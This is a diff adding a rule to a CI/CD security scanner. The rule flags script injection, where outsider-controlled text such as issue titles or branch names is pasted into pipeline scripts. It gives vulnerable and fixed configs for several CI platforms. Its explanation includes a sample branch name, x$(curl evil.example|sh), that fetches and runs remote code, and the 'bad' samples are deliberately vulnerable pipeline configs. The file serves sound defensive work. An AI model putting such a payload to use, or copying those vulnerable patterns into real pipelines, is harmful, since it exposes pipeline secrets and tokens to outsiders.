@@ -1,0 +1,211 @@
+"""Text that an outsider chose, pasted into a script before the script is run."""
+
+from collections.abc import Iterator, Sequence
+
+from bartizan.model import Check, Example, Severity
+from bartizan.scan.match import Match, ProposedFix
+from bartizan.scan.pipelines.environment_fix import through_environment
+from bartizan.scan.pipelines.privilege import privileged, reach
+from bartizan.scan.pipelines.subject import Job, Origin, Pipeline, Platform, Trust
+
+CHECK = Check(
+    id="PIPE-001",
+    slug="script-injection",
+    title="Text chosen by an outsider is pasted into a script",
+    severity=Severity.HIGH,
+    what="""
+Expressions that the platform replaces *before* a script runs, and whose value somebody without write access chooses: the title or text of a pull request
+or issue, a comment, a branch name, a commit message, a person's display name. Found in shell scripts and in inputs that are programs, such as the script of
+`actions/github-script`.
+""",
+    why="""
+The value becomes part of the program. A branch called `x$(curl evil.example|sh)`, or a title with a quote and a semicolon in it, runs commands in the job,
+with its secrets, its token and whatever the job publishes.
+
+Quoting around the expression does not help, because the value can hold the closing quote. Removing characters from it rarely does.
+""",
+    fix="""
+Hand the value over in an environment variable of the step and expand that variable, in double quotes, in the script: then it stays data.
+
+`bartizan` offers the edit where script and quoting are plain enough to make it by rule.
+""",
+    cwe=(94, 78),
+    attack=("T1059", "T1677"),
+    controls=("owasp-cicd:CICD-SEC-4", "ssdf:PW.5.1", "nist-800-53:SI-10", "soc2:CC8.1"),
+    references=(
+        "https://docs.github.com/en/actions/concepts/security/script-injections",
+        "https://docs.gitlab.com/ci/inputs/",
+    ),
+    upstream=("zizmor:template-injection",),
+    bad=(
+        Example(
+            ".github/workflows/greet.yml",
+            """\
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue ${{ github.event.issue.title }}"
+""",
+        ),
+        Example(
+            "azure-pipelines.yml",
+            """\
+pr: [main]
+pool:
+  vmImage: ubuntu-24.04
+steps:
+  - bash: echo "Building $(Build.SourceVersionMessage)"
+""",
+        ),
+        Example(
+            ".circleci/config.yml",
+            """\
+version: 2.1
+jobs:
+  build:
+    docker:
+      - image: cimg/base:2025.01
+    steps:
+      - run: echo "branch << pipeline.git.branch >>"
+workflows:
+  main:
+    jobs:
+      - build
+""",
+        ),
+        Example(
+            "Jenkinsfile",
+            """\
+pipeline {
+  agent any
+  stages {
+    stage('notify') {
+      steps {
+        sh "echo Pull request ${env.CHANGE_TITLE} opened"
+      }
+    }
+  }
+}
+""",
+        ),
+        Example(
+            ".tekton/pull.yaml",
+            """\
+apiVersion: tekton.dev/v1
+kind: PipelineRun
+metadata:
+  name: lint
+  annotations:
+    pipelinesascode.tekton.dev/on-event: "[pull_request]"
+spec:
+  pipelineSpec:
+    tasks:
+      - name: say
+        taskSpec:
+          steps:
+            - name: say
+              image: docker.io/library/alpine:3.22
+              script: |
+                echo "{{ body.pull_request.title }}"
+""",
+        ),
+    ),
+    good=(
+        Example(
+            ".github/workflows/greet.yml",
+            """\
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          TITLE: ${{ github.event.issue.title }}
+        run: echo "New issue $TITLE, number ${{ github.event.issue.number }}"
+""",
+        ),
+        Example(
+            "azure-pipelines.yml",
+            """\
+pr: [main]
+pool:
+  vmImage: ubuntu-24.04
+steps:
+  - bash: echo "Building $BUILD_SOURCEVERSIONMESSAGE as $(Build.BuildId)"
+""",
+        ),
+        Example(
+            ".circleci/config.yml",
+            """\
+version: 2.1
+jobs:
+  build:
+    docker:
+      - image: cimg/base:2025.01
+    steps:
+      - run: echo "branch $CIRCLE_BRANCH"
+workflows:
+  main:
+    jobs:
+      - build
+""",
+        ),
+        Example(
+            "Jenkinsfile",
+            """\
+pipeline {
+  agent any
+  stages {
+    stage('notify') {
+      steps {
+        sh 'echo "Pull request $CHANGE_TITLE opened"'
+      }
+    }
+  }
+}
+""",
+        ),
+        Example(
+            ".gitlab-ci.yml",
+            'say:\n  script:\n    - echo "$CI_MERGE_REQUEST_TITLE"\n',
+        ),
+    ),
+)
+
+_LANGUAGES = {"javascript": "JavaScript", "python": "Python", "pwsh": "PowerShell", "cmd": "batch"}
+
+
+def find(pipeline: Pipeline) -> Iterator[Match]:
+    """Untrusted expressions in scripts."""
+    for job, step in pipeline.steps():
+        for script in step.scripts:
+            for expression in script.expressions:
+                if expression.origin is not Origin.UNTRUSTED:
+                    continue
+                language = _LANGUAGES.get(script.language, "shell")
+                yield Match(
+                    span=expression.span,
+                    message=f"`{expression.source}` is pasted into a {language} script "
+                    f"that can reach {reach(pipeline, job).words}",
+                    anchor=expression.source,
+                    scope=pipeline.scope(job, step),
+                    annotation="an outsider chooses this value, and with it what the script does",
+                    severity=_severity(pipeline, job),
+                )
+
+
+def fixes(pipeline: Pipeline, match: Match) -> Sequence[ProposedFix]:
+    """Hand the value over in an environment variable."""
+    return through_environment(pipeline, match.span)
+
+
+def _severity(pipeline: Pipeline, job: Job) -> Severity:
+    if privileged(pipeline):
+        return max(reach(pipeline, job).severity, Severity.HIGH)
+    if pipeline.trust is Trust.OUTSIDER or pipeline.platform is Platform.JENKINS:
+        return Severity.HIGH
+    return Severity.MEDIUM
